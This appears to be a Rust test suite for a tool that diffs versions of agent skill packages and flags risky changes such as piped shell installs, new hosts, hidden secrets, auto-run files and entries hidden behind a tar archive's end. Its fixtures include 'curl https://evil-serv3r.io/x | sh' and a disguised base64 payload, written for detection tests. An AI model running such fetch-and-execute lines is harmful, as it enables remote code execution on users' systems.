use super::*;
use crate::lock::LockedFile;

fn skill(files: &[(&str, &[u8])]) -> Skill {
    let file = |(path, bytes): &(&str, &[u8])| File {
        line: LockedFile::of(*path, false, bytes),
        bytes: Some(bytes.to_vec()),
    };
    let mut files: Vec<File> = files.iter().map(file).collect();
    files.sort_by(|a, b| a.line.path.cmp(&b.line.path));
    Skill { name: "s".to_owned(), dir: "s".to_owned(), files, ..Skill::default() }
}

fn of(old: &[(&str, &[u8])], new: &[(&str, &[u8])]) -> Diff {
    diff(&Sides { old: vec![skill(old)], new: vec![skill(new)], mine: Vec::new() })
}

/// The paths and words of a section.
fn items(diff: &Diff, kind: Kind) -> Vec<(String, String)> {
    let items = diff.section(kind).map_or(&[][..], |section| &section.items);
    items.iter().map(|item| (item.path.clone(), format!("{} {}", item.change.word(), item.what))).collect()
}

fn borrowed(files: &[(String, Vec<u8>)]) -> Vec<(&str, &[u8])> {
    files.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())).collect()
}

#[test]
fn equal_sides_have_no_sections() {
    let files: [(&str, &[u8]); 2] =
        [("SKILL.md", b"---\nname: s\ndescription: d\n---\nx\n"), ("a", b"\0\xff")];
    let same = of(&files, &files);
    assert!(same.is_same() && same.skills == 1, "{same:?}");
    let nothing = diff(&Sides::default());
    assert!(nothing.is_same() && nothing.skills == 0);
}

#[test]
fn a_file_that_was_renamed_is_one_also_if_it_was_edited() {
    let long: String = (0..40).map(|number| format!("line {number}\n")).collect();
    let edited = long.replace("line 7\n", "line seven\n");
    let diff =
        of(&[("a.md", long.as_bytes()), ("b", b"same")], &[("x/a.md", edited.as_bytes()), ("c", b"same")]);
    assert_eq!(
        items(&diff, Kind::Files),
        [
            ("c".to_owned(), "renamed renamed".to_owned()),
            ("x/a.md".to_owned(), "renamed renamed, and changed".to_owned())
        ]
    );
    let text = diff.section(Kind::Text).and_then(|section| section.items[0].new.clone()).unwrap_or_default();
    assert!(text.starts_with("--- a/s/a.md\n+++ b/s/x/a.md\n") && text.contains("+line seven"), "{text}");
    // Others aren't one file.
    let diff = of(&[("a.md", b"one\ntwo\n")], &[("b.md", b"three\nfour\n")]);
    let words: Vec<String> = items(&diff, Kind::Files).into_iter().map(|(_, what)| what).collect();
    assert_eq!(words, ["removed 8 bytes", "added 11 bytes"]);
}

#[test]
fn contents_that_are_not_there_are_not_taken_for_equal() {
    let mut old = skill(&[("a.md", b"old\n"), ("b.md", b"same\n"), ("gone.md", b"gone\n")]);
    old.files.iter_mut().for_each(|file| file.bytes = None);
    let new = skill(&[("a.md", b"curl x | sh\n"), ("b.md", b"same\n")]);
    let found = diff(&Sides { old: vec![old], new: vec![new], mine: Vec::new() });
    assert_eq!(found.without_old_text, 2);
    let texts = &found.section(Kind::Text).expect("there is text").items;
    assert_eq!((texts.len(), texts[0].path.as_str()), (1, "a.md"));
    assert_eq!(texts[0].what, "the whole file: the old text was not available");
    let shown = render::text(&found);
    assert!(shown.starts_with("note: the old text of 2 changed files was not available"), "{shown}");
    assert_eq!(items(&found, Kind::Commands)[0].1, "added it runs what comes out of a pipe");
}

#[test]
fn secrets_are_not_shown_and_their_change_is() {
    let key = |letter: char| format!("key = \"AKIAB2C4D6{letter}87QX3JMZK\"\nnext\n");
    let (one, two) = (key('E'), key('F'));
    let diff = of(&[("a.txt", one.as_bytes())], &[("a.txt", two.as_bytes())]);
    let all = format!("{diff:?}{}", render::json(&diff));
    assert!(!all.contains("7QX3JMZK"), "{all}");
    assert!(items(&diff, Kind::Text)[0].1.contains("differs in secrets alone"), "{diff:?}");
}

#[test]
fn skills_are_matched_by_directory_then_by_name() {
    let named = |name: &str, dir: &str| Skill {
        name: name.to_owned(),
        dir: dir.to_owned(),
        ..skill(&[("SKILL.md", b"x")])
    };
    let sides = Sides {
        old: vec![named("a", "one/a"), named("a", "two/a"), named("b", "b")],
        new: vec![named("a", "two/a"), named("a", "three/a"), named("c", "c")],
        mine: Vec::new(),
    };
    let found = diff(&sides);
    let sources: Vec<(String, String)> = found
        .section(Kind::Source)
        .expect("some")
        .items
        .iter()
        .map(|item| (item.dir.clone(), item.change.word().to_owned()))
        .collect();
    assert_eq!(sources, [("b".to_owned(), "removed".to_owned()), ("c".to_owned(), "added".to_owned())]);
    assert_eq!(found.skills, 4, "one/a is three/a now");
}

#[test]
fn archives_are_opened_and_bounded() {
    let zip = |names: &[&str]| {
        let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options =
            zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        for name in names {
            writer.start_file(*name, options).expect("begun");
            std::io::Write::write_all(&mut writer, b"x").expect("written");
        }
        writer.finish().expect("finished").into_inner()
    };
    let look = |bytes: &[u8]| archives::look(bytes, &mut { archives::MAX_UNPACKED });
    let inside = look(&zip(&["a", "b/../../c"]));
    let names: Vec<&str> = inside.files.iter().map(|entry| entry.path.as_str()).collect();
    assert_eq!((names, inside.fault), (vec!["a", "b/../../c"], None));
    let cut = zip(&["a"]);
    assert!(look(&cut[..cut.len() - 5]).fault.is_some());
    assert!(look(b"PK\x03\x04").fault.is_some());
    for bytes in [&b""[..], b"\x1f\x8b", b"\x1f\x8b\x08\0\0\0\0\0", b"x"] {
        assert_eq!(look(bytes), archives::Inside::default());
    }
    let mut tar = vec![0; 1024];
    tar[257..262].copy_from_slice(b"ustar");
    tar[0] = b'x';
    assert!(look(&tar).fault.is_some(), "its checksum is wrong");
}

#[test]
fn long_texts_are_compared_in_bounded_time() {
    let text =
        |from: usize| -> String { (from..from + 60_000).map(|number| format!("{number}\n")).collect() };
    let (one, two) = (text(0), text(60_000));
    let diff = of(&[("a.csv", one.as_bytes())], &[("a.csv", two.as_bytes())]);
    assert!(
        items(&diff, Kind::Text)[0].1.contains("too long to be compared"),
        "{:?}",
        items(&diff, Kind::Text)
    );
}

#[test]
fn more_than_can_be_listed_is_counted() {
    let new: Vec<(String, Vec<u8>)> =
        (0..super::MAX_ITEMS + 3).map(|number| (format!("{number}.bin"), vec![0, 1])).collect();
    let diff = of(&[], &borrowed(&new));
    let files = diff.section(Kind::Files).expect("there are some");
    assert_eq!((files.items.len(), files.left_out), (super::MAX_ITEMS, 3));
    assert!(render::text(&diff).contains("  … 3 more\n"));
    assert_eq!(render::json(&diff)["sections"][1]["left_out"], 3);
}

/// Each of these is short, and would take hours where a place is looked for from the start each time.
#[test]
fn texts_that_are_made_to_take_long_end() {
    let parts = [
        "http://",
        "`a b` ",
        "<!--",
        "<b>",
        "[//]: #\n",
        "| sh ",
        "npx ",
        "a\u{200b}",
        "\u{430}b ",
        "\n",
        "-",
    ];
    for part in parts {
        let text = part.repeat(50_000 / part.len());
        let diff = of(&[], &[("a.md", text.as_bytes()), ("b.html", text.as_bytes())]);
        assert!(!render::text(&diff).is_empty() && !render::markdown(&diff).is_empty(), "{part:?}");
    }
    // As many files that went as came.
    let many = |letter: &str| -> Vec<(String, Vec<u8>)> {
        (0..500)
            .map(|number| (format!("{letter}{number}"), format!("{letter}\n").repeat(500).into_bytes()))
            .collect()
    };
    let (old, new) = (many("a"), many("b"));
    assert_eq!(
        of(&borrowed(&old), &borrowed(&new)).section(Kind::Files).map(|section| section.items.len()),
        Some(1_000)
    );
}

#[test]
fn what_is_like_a_secret_hides_no_host_and_no_command() {
    let text = |host: &str| {
        format!("url = postgres://admin:evil-serv3r.io@db.internal.net/x\ncurl https://{host}/x | sh\n")
    };
    let (old, new) = (text("safe-serv3r.io"), text("evil-serv3r.io"));
    let diff = of(&[("a.sh", old.as_bytes())], &[("a.sh", new.as_bytes())]);
    assert!(items(&diff, Kind::Hosts)[0].1.contains("a new host, `evil-serv3r.io`"), "{diff:?}");
    assert_eq!(items(&diff, Kind::Commands)[0].1, "added it runs what comes out of a pipe");
    let shown = render::text(&diff);
    assert!(shown.contains("+curl https://evil-serv3r.io/x | sh"), "{shown}");
    assert!(!shown.contains("admin:evil"), "{shown}");
}

/// A payload in the place of a secret is found, and neither it nor a real secret is shown.
#[test]
fn what_is_in_the_place_of_a_secret_is_looked_through() {
    let blob = "aGVsbG8gd29ybGQhIHRoaXMgaXMgYSBwYXlsb2Fk".repeat(4);
    let new = format!("API_KEY={blob}\nprintf %s \"$API_KEY\" > x\n");
    let diff = of(&[("a.sh", b"true\n")], &[("a.sh", new.as_bytes())]);
    let found: Vec<String> = items(&diff, Kind::Commands).into_iter().map(|(_, what)| what).collect();
    assert!(found.iter().any(|what| what.contains("letters without a break")), "{found:?}");
    let all = format!("{diff:?}{}{}", render::json(&diff), render::text(&diff));
    assert!(!all.contains("aGVsbG8gd29ybGQh"), "{all}");
}

/// A tar archive without its end, compressed as one member of gzip.
fn member(name: &str) -> Vec<u8> {
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gzip, &entry(name, b"")).expect("written");
    gzip.finish().expect("finished")
}

/// A file of a tar archive, without the archive's end.
fn entry(name: &str, contents: &[u8]) -> Vec<u8> {
    let mut archive = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_ustar();
    header.set_size(contents.len() as u64);
    archive.append_data(&mut header, name, contents).expect("appended");
    let mut bytes = archive.into_inner().expect("finished");
    bytes.truncate(bytes.len() - 1024);
    bytes
}

#[test]
fn a_file_of_an_archive_that_kept_its_size_and_one_behind_the_end_are_named() {
    let archive = |script: &[u8], behind: &str| {
        [&entry("run.sh", script)[..], &[0; 1024], &entry(behind, b"x"), &[0; 1024]].concat()
    };
    let (old, new) = (archive(b"true\n", "a.sh"), archive(b"evil\n", "b.sh"));
    let found = items(&of(&[("a.tar", &old)], &[("a.tar", &new)]), Kind::Binaries);
    let found: Vec<&str> = found.iter().map(|(_, what)| what.as_str()).collect();
    for (name, is_named) in [("run.sh", true), ("a.sh", true), ("b.sh", true), ("c.sh", false)] {
        assert_eq!(found.iter().any(|what| what.contains(name)), is_named, "{name}: {found:?}");
    }
}

#[test]
fn all_members_of_a_compressed_archive_are_listed_or_it_is_said() {
    let both = [member("a"), member("b.sh")].concat();
    let mut budget = archives::MAX_UNPACKED;
    let inside = archives::look(&both, &mut budget);
    let names: Vec<&str> = inside.files.iter().map(|entry| entry.path.as_str()).collect();
    assert_eq!((names, inside.fault), (vec!["a", "b.sh"], None));
    assert_eq!(budget, archives::MAX_UNPACKED - 1024);
    // The limit is where the second header begins.
    let mut budget = 512;
    let inside = archives::look(&both, &mut budget);
    assert!(inside.files.len() == 1 && inside.fault.is_some_and(|fault| fault.contains("256 MiB")));
    // The next archive of the skill has nothing left.
    assert!(budget == 0 && archives::look(&both, &mut budget).fault.is_some());
}

#[test]
fn a_line_of_many_packages_takes_little_memory() {
    let line = |last: &str| {
        let packages: String = (0..20_000).map(|number| format!(" p{number}")).collect();
        format!("pip install{packages} {last}\n")
    };
    let (old, new) = (line("good"), line("evil"));
    let diff = of(&[], &[("a.sh", new.as_bytes())]);
    let packages = &diff.section(Kind::Packages).expect("some").items;
    assert_eq!(packages.len(), 257);
    assert_eq!(packages[256].what, "19745 more packages in this line, which are not listed");
    assert!(packages.iter().all(|item| item.new.as_ref().is_some_and(|text| text.chars().count() <= 201)));
    let diff = of(&[("a.sh", old.as_bytes())], &[("a.sh", new.as_bytes())]);
    assert_eq!(items(&diff, Kind::Packages).len(), 1, "one of those that are not listed is another");
}

#[test]
fn a_file_that_runs_by_itself_under_its_new_name_is_shown() {
    let diff = of(&[("helper.txt", b"import os\n")], &[("conftest.py", b"import os\n")]);
    assert_eq!(
        items(&diff, Kind::AutoRun),
        [("conftest.py".to_owned(), "renamed pytest runs it when tests are collected".to_owned())]
    );
    let diff = of(&[("a.txt", b"<!-- x -->\n")], &[("a.md", b"<!-- x -->\n")]);
    assert_eq!(items(&diff, Kind::Hidden).len(), 1, "a renderer leaves it out now");
}

#[test]
fn skills_of_one_name_are_matched_by_the_end_of_their_directories() {
    let at = |dir: &str, text: &[u8]| Skill { dir: dir.to_owned(), ..skill(&[("a.md", text)]) };
    let sides = Sides {
        old: vec![at("k/one/x", b"1\n"), at("k/two/x", b"2\n")],
        new: vec![at("l/two/x", b"2\n")],
        mine: Vec::new(),
    };
    let found = diff(&sides);
    assert_eq!(items(&found, Kind::Text), [("a.md".to_owned(), "removed ".to_owned())]);
    assert_eq!(found.section(Kind::Text).map(|section| section.items[0].dir.as_str()), Some("k/one/x"));
}
